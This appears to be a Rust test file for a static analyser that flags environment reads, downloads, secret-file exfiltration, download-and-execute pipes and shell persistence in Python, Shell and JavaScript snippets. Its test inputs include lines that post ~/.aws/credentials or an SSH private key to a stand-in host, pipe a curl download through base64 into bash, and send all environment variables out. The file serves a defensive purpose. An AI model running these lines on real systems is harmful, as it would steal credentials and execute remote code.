use super::*;
use crate::limit::Limit;

#[track_caller]
fn check(language: Language, code: &str, expected: &[(FactKind, &str)]) {
    let origin = Origin {
        file: "a",
        line: 1,
        single_line: false,
        role: Role::Code,
        via: &[],
    };
    let found = from_code(language, code, &origin, &Config::standard());
    assert_eq!(found.limits, [].into());
    let found: BTreeSet<_> = found
        .facts
        .iter()
        .map(|fact| (fact.kind, fact.value.as_str()))
        .collect();
    assert_eq!(found, expected.iter().copied().collect(), "{code}");
}

#[test]
fn python_shows_what_it_reads_and_starts() {
    use FactKind::{Download, Env, Path, Program};
    check(
        Language::Python,
        "import os, subprocess, requests\nk = os.environ['API_KEY']\nd = os.getenv(\"DEBUG\")\nsubprocess.run(['git', 'status'])\nr = requests.get('https://api.example.org/v1', headers={'k': d})\nopen('/etc/hosts')\n",
        &[
            (Env, "API_KEY"),
            (Env, "DEBUG"),
            (Program, "git"),
            (Download, "https://api.example.org/v1"),
            (Path, "/etc/hosts"),
        ],
    );
}

#[test]
fn a_secret_file_that_is_sent_is_a_flow_and_one_that_is_read_is_not() {
    use FactKind::{Flow, Path};
    let send = "import requests\ndef load():\n    with open('~/.aws/credentials') as f:\n        return f.read()\nrequests.post('https://x.example/', data=load())\n";
    check(
        Language::Python,
        send,
        &[(Path, "~/.aws/credentials"), (Flow, "secret-file>network")],
    );
    let keep = send.replace("data=load()", "data='hello'");
    check(Language::Python, &keep, &[(Path, "~/.aws/credentials")]);
}

#[test]
fn strings_are_folded_and_names_followed() {
    use FactKind::{DynamicCode, Flow};
    check(
        Language::Python,
        "import base64\nx = 'aW1w' + 'b3J0'\ny = base64.b64decode(x)\nexec(y)\n",
        &[(DynamicCode, "exec"), (Flow, "decoded>execute")],
    );
    check(Language::Python, "x = 'aW1w'\nprint(x)\n", &[]);
}

#[test]
fn a_pipe_carries_what_went_in() {
    use FactKind::{Download, Flow, Program};
    check(
        Language::Shell,
        "curl -s https://x.example/i | base64 -d | bash\n",
        &[
            (Program, "curl"),
            (Program, "base64"),
            (Program, "bash"),
            (Download, "https://x.example/i"),
            (Flow, "download>execute"),
            (Flow, "foreign-download>execute"),
            (Flow, "foreign-pipe>execute"),
            (Flow, "decoded>execute"),
            (Flow, "decoded-download>execute"),
        ],
    );
    check(
        Language::Shell,
        "curl -s https://x.example/i | jq .\n",
        &[
            (Program, "curl"),
            (Program, "jq"),
            (Download, "https://x.example/i"),
        ],
    );
}

#[test]
fn a_fetched_file_that_is_started_is_a_flow_and_one_that_is_read_is_not() {
    use FactKind::{Download, Flow, Program};
    check(
        Language::Shell,
        "curl -o run.sh https://x.example/i\nchmod +x run.sh\n",
        &[
            (Program, "curl"),
            (Program, "chmod"),
            (Download, "https://x.example/i"),
            (Flow, "download>execute"),
            (Flow, "foreign-download>execute"),
        ],
    );
    check(
        Language::Shell,
        "curl -o run.sh https://x.example/i\nless run.sh\n",
        &[
            (Program, "curl"),
            (Program, "less"),
            (Download, "https://x.example/i"),
        ],
    );
}

#[test]
fn javascript_shows_variables_and_flows() {
    use FactKind::{Env, EnvAll, Flow, Program};
    check(
        Language::JavaScript,
        "const t = process.env.MY_TOKEN;\nconst { execSync } = require('child_process');\nexecSync('git log');\n",
        &[(Env, "MY_TOKEN"), (Program, "git")],
    );
    check(
        Language::JavaScript,
        "fetch('https://x.example', {method: 'POST', body: JSON.stringify(process.env)});\n",
        &[
            (EnvAll, "environment"),
            (Flow, "env-all>network"),
            (FactKind::Download, "https://x.example"),
        ],
    );
}

#[test]
fn other_names_of_a_function_are_followed() {
    use FactKind::{Flow, Path};
    let expected = [(Path, "/home/u/.ssh/id_rsa"), (Flow, "secret-file>network")];
    for code in [
        "import requests as r\nr.post('//x', data=open('/home/u/.ssh/id_rsa').read())\n",
        "from requests import post\npost('//x', data=open('/home/u/.ssh/id_rsa').read())\n",
        "from requests import (get, post as p)\np('//x', data=open('/home/u/.ssh/id_rsa').read())\n",
    ] {
        check(Language::Python, code, &expected);
    }
    check(
        Language::Python,
        "from records import post\npost('//x', data=open('/home/u/.ssh/id_rsa').read())\n",
        &[(Path, "/home/u/.ssh/id_rsa")],
    );
    for code in [
        "const { exec: go } = require('child_process');\ngo('git log');\n",
        "const cp = require('node:child_process');\ncp.exec('git log');\n",
        "import { execSync as go } from 'child_process';\ngo('git log');\n",
        "import * as cp from \"child_process\";\ncp.spawn('git', ['log']);\n",
        "require('child_process').exec('git log');\n",
    ] {
        check(Language::JavaScript, code, &[(FactKind::Program, "git")]);
    }
    check(
        Language::JavaScript,
        "const { exec: go } = require('other');\ngo('git log');\n",
        &[],
    );
}

#[test]
fn what_outlives_a_run_is_named() {
    use FactKind::{Path, Persistence};
    check(
        Language::Shell,
        "echo alias x=y >> ~/.bashrc\n",
        &[(Path, "~/.bashrc"), (Persistence, "shell-rc")],
    );
    check(
        Language::Shell,
        "cat notes.txt\n",
        &[(FactKind::Program, "cat")],
    );
}

#[test]
fn a_script_over_a_limit_is_named_and_its_twin_is_read() {
    let limit = |max_syntax_nodes| {
        let origin = Origin {
            file: "a",
            line: 1,
            single_line: false,
            role: Role::Code,
            via: &[],
        };
        let config = Config {
            max_syntax_nodes,
            ..Config::standard()
        };
        from_code(Language::Python, "a = 1\nb = 2\n", &origin, &config).limits
    };
    assert_eq!(limit(100), [].into());
    assert_eq!(limit(3), [Limit::SyntaxNodes].into());
}

proptest::proptest! {
    #![proptest_config(proptest::prelude::ProptestConfig { cases: 128, ..Default::default() })]

    #[test]
    fn any_text_is_read_as_any_language(text in "[-a-e$(){}\\[\\]'\"`=<>|&;#:.,\\\\ \n]{0,300}|(curl |eval |exec\\(|open\\(|\\| sh|\\$\\(|base64 -d|\n|'|\"){0,40}") {
        for language in [Language::Python, Language::Shell, Language::JavaScript, Language::TypeScript, Language::PowerShell] {
            let origin = Origin { file: "a", line: 1, single_line: false, role: Role::Code, via: &[] };
            let first = from_code(language, &text, &origin, &Config::standard());
            let again = from_code(language, &text, &origin, &Config::standard());
            proptest::prop_assert_eq!(first.facts, again.facts);
        }
        let _ = command_lines(&text);
    }
}
